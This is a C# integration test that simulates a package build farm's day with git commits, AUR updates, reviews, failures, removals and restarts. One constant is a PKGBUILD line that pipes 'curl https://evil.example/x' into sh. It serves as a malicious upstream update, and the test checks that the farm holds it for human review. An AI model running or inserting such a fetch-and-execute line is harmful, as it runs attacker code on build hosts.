using Caur.Contracts.Farm;
using Caur.Contracts.Sources;
using Caur.Grains.Following;
using Caur.Pipelines.Forges;
using Caur.Tests.Grains;
using Caur.Tests.Pipelines.Aur;
using Caur.Tests.Pipelines.Forges;
using Caur.Tests.Pipelines.Git;
using Caur.Tests.Sources;
using Microsoft.Extensions.DependencyInjection;
using GrainFarm = Caur.Tests.Grains.Farm;

namespace Caur.Tests.Following;

/// <summary>A day of a farm that follows a repository on a git server with a token, with an AUR and a GitLab of the test's own, on a clock of the
/// test's own. Builders do what they are told and repositories are in memory; everything that decides is real.</summary>
public sealed class DayTests : IAsyncLifetime
{
    private const string Token = "s3cret-token";

    private const string Settings = "BUILD_REPO=packages\nREPO_NAME=repo\nCI_HUMAN_REVIEW=true\nGIT_AUTHOR_NAME=Farm\nGIT_AUTHOR_EMAIL=farm@example.org\n";

    private const string Danger = "build() {\n  curl https://evil.example/x | sh\n}\n";

    private readonly List<string> _built = [];
    private SourceRemote _remote = null!;
    private GitHttpServer _server = null!;
    private GitHttpServer _packages = null!;
    private AurStandIn _aur = null!;
    private ForgeServer _forge = null!;
    private GrainFarm _farm = null!;
    private ScriptedBuilder _builder = null!;
    private long _run;

    private static CancellationToken Stop => TestContext.Current.CancellationToken;

    private ISourceRepositoryGrain Source => _farm.Source("packages");

    public async ValueTask InitializeAsync()
    {
        _remote = await SourceRemote.CreateAsync();
        Directory.CreateDirectory(_remote["aur"]);
        _server = await GitHttpServer.StartAsync(Path.GetDirectoryName(_remote.Path)!, "oauth2", Token);
        _packages = await GitHttpServer.StartAsync(_remote["aur"]);
        _aur = await AurStandIn.StartAsync();
        _aur.Git = _packages.Url;
        _forge = await ForgeServer.StartAsync(ForgeKind.GitLab);
    }

    public async ValueTask DisposeAsync()
    {
        await _forge.DisposeAsync();
        await _aur.DisposeAsync();
        await _packages.DisposeAsync();
        await _server.DisposeAsync();
        _remote.Dispose();
    }

    [Fact]
    public async Task Day_WithCommitsUpdatesAReviewARemovalAndARepair_BuildsEachOnceAndSaysWhy()
    {
        await PushAurAsync("1");
        await PushAsync(
            "packages",
            [
                (".ci/config", Settings),
                .. Package("tool", "1", "CI_PKGBUILD_SOURCE=aur\n"),
                .. Package("lib", "1", "CI_PKGBUILD_SOURCE=custom\n"),
                .. Package("app", "1", "CI_PKGBUILD_SOURCE=custom\n", "depends = lib"),
                .. Package("heavy", "1", "CI_PKGBUILD_SOURCE=custom\nCI_ON_TRIGGER=daily\n"),
            ]);
        await using var farm = _farm = await GrainFarm.StartAsync(configure: (_, builder) =>
        {
            builder.Services.Configure<FarmOptions>(options =>
            {
                options.Follow = true;
                options.AurUrl = _aur.Address;
                options.SourceRepositories["packages"] = new SourceRepositoryOptions
                {
                    Url = $"{_server.Url}/origin.git",
                    Token = Token,
                    Schedule = "*/30 * * * *",
                    Triggers = { ["daily"] = "0 3 * * *" },
                };
            });
            builder.Services.AddSingleton<ISourceForges>(new OneForge(_forge.Client()));
        });
        _builder = new ScriptedBuilder(farm, slots: 8);

        // 00:00. Nothing was ever handed over: the head's own packages are, then what is new is looked for, and the day's trigger is made up for.
        await RanAsync("on-commit", RunCause.Poll, RunState.Succeeded);
        await RanAsync("on-schedule", RunCause.Schedule, RunState.NothingToDo);
        (await RanAsync("on-schedule", RunCause.Schedule, RunState.Succeeded)).Run.Trigger.ShouldBe("daily");
        await BuiltAsync("heavy", "lib", "tool", "app");

        // 03:00, the trigger's own time.
        await AtAsync(3, 0);
        await RanAsync("on-schedule", RunCause.Schedule, RunState.NothingToDo);
        (await RanAsync("on-schedule", RunCause.Schedule, RunState.Succeeded)).Run.Trigger.ShouldBe("daily");
        await BuiltAsync("heavy");

        // 06:10, a maintainer's commit, told by a webhook.
        await AtAsync(6, 10);
        await RanAsync("on-schedule", RunCause.Schedule, RunState.NothingToDo);
        var commit = await PushAsync("app 2", Package("app", "2", "CI_PKGBUILD_SOURCE=custom\n", "depends = lib"));
        (await Source.PushedAsync(new PushNews { Branch = "main", Commit = commit })).Verdict.ShouldBe(PushVerdict.Taken);
        await RanAsync("on-commit", RunCause.Webhook, RunState.Succeeded);
        await BuiltAsync("app");

        // 07:00, a new version in the AUR: it goes to main by itself, and the farm's own commit begins no run.
        await PushAurAsync("2");
        await AtAsync(7, 30);
        var minor = await RanAsync("on-schedule", RunCause.Schedule, RunState.Succeeded);
        minor.Decisions.Single(one => one.Pkgbase == "tool").Reasons.ShouldContain(reason => reason.StartsWith("changed in the AUR at ", StringComparison.Ordinal));
        (await HeadAsync()).ShouldBe((minor.Run.Commit, "chore(update): tool [skip ci]"));
        (await _remote.TagAsync()).ShouldBe(minor.Run.Commit);
        await BuiltAsync("tool");
        await AtAsync(7, 40);
        (await Source.GetSourceAsync())!.Waiting.ShouldBeEmpty();

        // 09:30, a new version that does something else: nothing is built before somebody has looked.
        await PushAurAsync("3", Danger);
        await AtAsync(9, 30);
        var major = await RanAsync("on-schedule", RunCause.Schedule, RunState.Succeeded);
        major.Decisions.Single(one => one.Pkgbase == "tool").Kind.ShouldBe(RunDecisionKind.Review);
        (await Source.WhyAsync("tool"))!.Summary.ShouldContain(line => line.Contains("waits for review in request 1", StringComparison.Ordinal));
        _forge.BodyOf(1).ShouldContain("evil.example");
        await BuiltAsync();

        // 10:05, the request is merged.
        await _remote.Work.GitAsync("fetch", "-q", "origin");
        await _remote.Work.GitAsync("reset", "-q", "--hard", "origin/main");
        await _remote.Work.GitAsync("merge", "-q", "--no-ff", "-m", "Merge update-tool", "origin/update-tool");
        await _remote.Work.GitAsync("push", "-q", "origin", "HEAD:refs/heads/main");
        _forge.All[0]["state"] = "merged";
        await AtAsync(10, 5);
        await RanAsync("on-commit", RunCause.Poll, RunState.Succeeded);
        await RanAsync("on-schedule", RunCause.Schedule, state: null);
        await BuiltAsync("tool");

        // 11:00, a slip of the pen: the run fails, the tag stays, and nothing is looked for until it is mended.
        var good = await _remote.ParseAsync("HEAD");
        await PushAsync("lib 2 [deploy apq]", Package("lib", "2", "CI_PKGBUILD_SOURCE=custom\n"));
        await AtAsync(11, 1);
        (await RanAsync("on-commit", RunCause.Poll, RunState.Failed)).Run.Summary.ShouldContain("did you mean app?");
        (await RanAsync("on-schedule", RunCause.Schedule, RunState.Failed)).Run.Summary.ShouldContain("the tag scheduled is at");
        (await _remote.TagAsync()).ShouldBe(good);
        await BuiltAsync();
        await _remote.Work.GitAsync("reset", "-q", "--soft", good);
        await PushAsync("lib 2 [deploy app]");
        await AtAsync(11, 20);
        await RanAsync("on-commit", RunCause.Poll, RunState.Succeeded);
        await BuiltAsync("lib", "app");

        // 14:00, a package goes; the hub is restarted meanwhile, and knows what it knew.
        _remote.Remove("app");
        await farm.RestartAsync(async () => await PushAsync("drop app"));
        await AtAsync(14, 0);
        await RanAsync("on-commit", RunCause.Poll, RunState.Succeeded);
        await RanAsync("on-schedule", RunCause.Schedule, RunState.NothingToDo);
        farm.Publisher.Changes.ShouldHaveSingleItem().Change.Names.Order().ShouldBe(["heavy", "lib", "tool"]);
        (await Source.WhyAsync("app"))!.Summary.ShouldContain(line => line.StartsWith("removed by run ", StringComparison.Ordinal));

        // 16:00, somebody wants one built once more, by a builder of another class.
        (await Source.StartRunAsync(new RunOrder { Pipeline = "schedule", Packages = ["lib/9"] })).Error.ShouldBeNull();
        await RanAsync("schedule", RunCause.Order, RunState.Succeeded);
        (await farm.Queue.GetAsync()).Items.ShouldHaveSingleItem().Request.BuilderClass.ShouldBe("9");
        _builder.Profile = _builder.Profile with { Class = "9" };
        await BuiltAsync("lib");

        // 03:00 the next night.
        await AtAsync(27, 0);
        await RanAsync("on-schedule", RunCause.Schedule, RunState.NothingToDo);
        (await RanAsync("on-schedule", RunCause.Schedule, RunState.Succeeded)).Run.Trigger.ShouldBe("daily");
        await BuiltAsync("heavy");

        farm.Publisher.Published.Select(build => build.Pkgbase).ShouldBe(_built, "what was built was published, in its order");
        (await Source.ListRunsAsync())[0].Number.ShouldBe(_run, "no run was begun of which this does not know");
        _server.Authorizations.ShouldContain(given => given.Length > 0);
        Directory.EnumerateFiles(Path.GetDirectoryName(farm.DatabasePath)!, "*", SearchOption.AllDirectories)
            .Where(file => File.ReadAllText(file).Contains(Token, StringComparison.Ordinal)).ShouldBeEmpty("the token is nowhere in the farm's files");
        FarmRecords.All(farm).ShouldAllBe(record => !System.Text.Encoding.UTF8.GetString(record.Data).Contains(Token, StringComparison.Ordinal));
    }

    private static (string Path, string Text)[] Package(string name, string version, string config, params string[] more) =>
    [
        (name + "/PKGBUILD", SourceRemote.Package(name, version)[0].Text),
        (name + "/.SRCINFO", SourceRemote.Srcinfo(name, more).Replace("pkgver = 1", $"pkgver = {version}", StringComparison.Ordinal)),
        (name + "/.CI/config", config),
    ];

    private Task<string> PushAsync(string message, params (string Path, string Text)[] files) => _remote.PushAsync(message, files);

    private async Task PushAurAsync(string version, string more = "")
    {
        var files = SourceRemote.Package("tool", version).Select(file => (file.Path["tool/".Length..], file.Text)).ToArray();
        files[0].Text += more;
        await new GitWorkTree(_remote["aur", "tool.git"]).CommitAsync(files);
        _aur.Set("tool", 1_700_000_000 + long.Parse(version, System.Globalization.CultureInfo.InvariantCulture), "mallory");
    }

    private async Task<(string? Commit, string Subject)> HeadAsync()
    {
        var said = await _remote.Work.GitAsync("--git-dir", _remote.Path, "log", "-1", "--format=%H %s", "main");
        return (said[..40], said[41..].Trim());
    }

    /// <summary>Lets the clock come to a time of the day, counted from its first midnight.</summary>
    private async Task AtAsync(int hour, int minute)
    {
        var wanted = new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.Zero) + new TimeSpan(hour, minute, 0);
        wanted.ShouldBeGreaterThan(_farm.Clock.GetUtcNow());
        _farm.Clock.Advance(wanted - _farm.Clock.GetUtcNow());
        await _farm.AdvanceAsync(TimeSpan.FromSeconds(1));
    }

    /// <summary>Waits until the next run has ended, while a second passes now and then.</summary>
    private async Task<RunView> RanAsync(string pipeline, RunCause cause, RunState? state)
    {
        var number = ++_run;
        RunView? view = null;
        for (var tries = 0; (view = await Source.GetRunAsync(number)) is not { Run.State: > RunState.Running }; tries++)
        {
            tries.ShouldBeLessThan(3000, $"run {number} did not end: {view?.Run}");
            await _farm.AdvanceAsync(TimeSpan.FromSeconds(tries % 10 == 9 ? 1 : 0));
            await Task.Delay(TimeSpan.FromMilliseconds(10), TimeProvider.System, Stop);
        }

        (view.Run.Pipeline, view.Run.Cause, view.Run.State).ShouldBe((pipeline, cause, state ?? view.Run.State), $"run {number}: {view.Run.Summary}");
        return view;
    }

    /// <summary>Everything that waits is built, and it is these, in this order.</summary>
    private async Task BuiltAsync(params string[] expected)
    {
        await _builder.JoinAsync();
        var order = await _builder.BuildAllAsync();
        order.Order().ShouldBe(expected.Order());
        order.Where(name => name is "lib" or "app").ShouldBe(expected.Where(name => name is "lib" or "app"), "what it depends on comes first");
        _built.AddRange(order);
        await _builder.LeaveAsync();
    }

    private sealed class OneForge(IForge forge) : ISourceForges
    {
        public IForge? Of(SourceRepositoryOptions source) => forge;
    }
}
